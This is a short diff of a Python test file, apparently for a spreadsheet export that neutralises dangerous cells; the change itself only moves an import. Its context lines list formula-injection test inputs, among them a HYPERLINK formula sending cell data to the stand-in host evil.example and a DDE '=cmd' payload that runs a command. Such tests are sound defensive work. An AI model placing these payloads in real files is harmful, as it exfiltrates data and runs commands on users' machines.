@@ -9,8 +9,8 @@ from data.atlas import Atlas
 from data.exchange.cells import disarmed
 from data.settings import Settings
 from tests.data.small_package import write_package
-from tests.exchange.conftest import client_of
 from tests.exchange.reading import cells, collection, rows, sheets
+from tests.web.room import client_of
 
 CALLS = '=HYPERLINK("http://evil.example?"&A1;"clic")'
 RUNS = [CALLS, "+33 4 71", "-2+3", "@SUM(A1)", "=cmd|'/C calc'!A0", "＝1+1", "\t=1+1", "\n=1+1"]
